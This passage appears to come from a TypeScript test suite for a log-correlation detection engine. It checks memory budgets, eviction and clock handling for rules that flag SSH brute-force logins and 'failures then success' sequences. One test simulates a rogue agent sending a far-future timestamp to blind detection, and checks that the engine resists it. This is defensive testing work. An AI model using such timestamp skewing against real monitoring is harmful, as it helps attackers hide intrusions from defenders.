    let stats = set.correlationStats();
    // Each value counts 255 entries: three groups of 29 fit in 25,000.
    assert.equal(stats.keys, 3);
    assert.equal(stats.evicted, 17);
    // A group that alone would hold more than the budget goes as well.
    const small = load(sweep, { maxEntriesPerRule: 100 });
    for (let i = 0; i < 12; i++) small.match(ping('h-1', i, `ping ${i} ${'B'.repeat(2_500)}`));
    stats = small.correlationStats();
    assert.deepEqual([stats.keys, stats.evicted], [1, 1], '10 entries a value: the eleventh made the group too big, the twelfth opened it again');
    // Short values count one each, and long ones that fit still fire.
    assert.equal(feed(load(sweep), Array.from({ length: 30 }, (_, i) => ping('h-2', i, `ping ${i} ${pad}`))).length, 1);
    assert.equal(feed(load(sweep, { maxEntriesPerRule: 30 }), Array.from({ length: 30 }, (_, i) => ping('h-3', i, `ping 10.0.0.${i}`))).length, 1);
  });

  it('is not blinded by one event from a host whose clock is far ahead', () => {
    const set = load(rule);
    feed(set, [sshFailure(10 * 365 * 86_400, '192.0.2.99')]);
    // Groups of hosts with sane clocks form, last and fire as before.
    const burst = [0, 1, 2, 3, 4, 5].flatMap((s) => [sshFailure(s, '192.0.2.1'), sshFailure(s, `192.0.2.${10 + s}`)]);
    assert.equal(feed(set, burst).length, 2);
  });

  it('is not blinded in a group of the fleet by one agent\'s event dated ahead of the clock', () => {
    const from = (agent: string, seconds: number, outcome = 'failure') => {
      const e = sshFailure(seconds, '203.0.113.5');
      e['agent'] = { ...(e['agent'] as object), id: agent };
      (e['event'] as Record<string, unknown>)['outcome'] = outcome;
      return e;
    };
    const rules = `${rule.replace('event.action = ssh_login', 'event.action = ssh_login and event.outcome = failure')}
  - id: failures_then_success
    type: sequence
    title: S
    severity: high
    within: 60s
    by: source.ip
    steps:
      - condition: event.action = ssh_login and event.outcome = failure
      - condition: event.action = ssh_login and event.outcome = success
`;
    const set = load(rules);
    // The server's timer gives the clock; one agent says the address failed to log in ten years on.
    set.expireIdle(BASE);
    feed(set, [from('ag_evil', 10 * 365 * 86_400)]);
    assert.equal(set.correlationStats().ahead, 2, 'once for each rule it counts in');
    // It is taken as dated AHEAD_MS past the clock: the other hosts' failures and success from
    // that address, seconds later, still count (without the clock, they were too late for good).
    set.expireIdle(BASE + AHEAD_MS);
    const hits = feed(set, [from('ag_a', 11), from('ag_b', 12), from('ag_a', 13, 'success')]);
    assert.deepEqual(hits.map((m) => [m.rule.id, m.correlation?.first]), [
      ['slow_burn', BASE + AHEAD_MS],
      ['failures_then_success', BASE + 12_000],
    ]);
    // Before the rule set knew the clock (just loaded), such an event's group is dropped at the first tick.
    const fresh = load(rules);
    feed(fresh, [from('ag_evil', 10 * 365 * 86_400)]);
    fresh.expireIdle(BASE);
    assert.deepEqual([fresh.correlationStats().keys, fresh.correlationStats().expired], [0, 2]);
    assert.equal(feed(fresh, [from('ag_a', 1), from('ag_b', 2), from('ag_c', 3)]).length, 1);
    // Without a clock (a replay of a capture), times are the events' own.
    const replay = load(rules);
    feed(replay, [from('ag_a', 10 * 365 * 86_400)]);
    assert.equal(replay.correlationStats().ahead, 0);
  });

  it('counts events without a usable timestamp and ignores them', () => {
    const set = load(rule);
    const e = sshFailure(0, '192.0.2.1');
    e['@timestamp'] = 'yesterday';
    set.match(e);
    assert.equal(set.correlationStats().untimed, 1);
    assert.equal(set.correlationStats().keys, 0);
  });
});
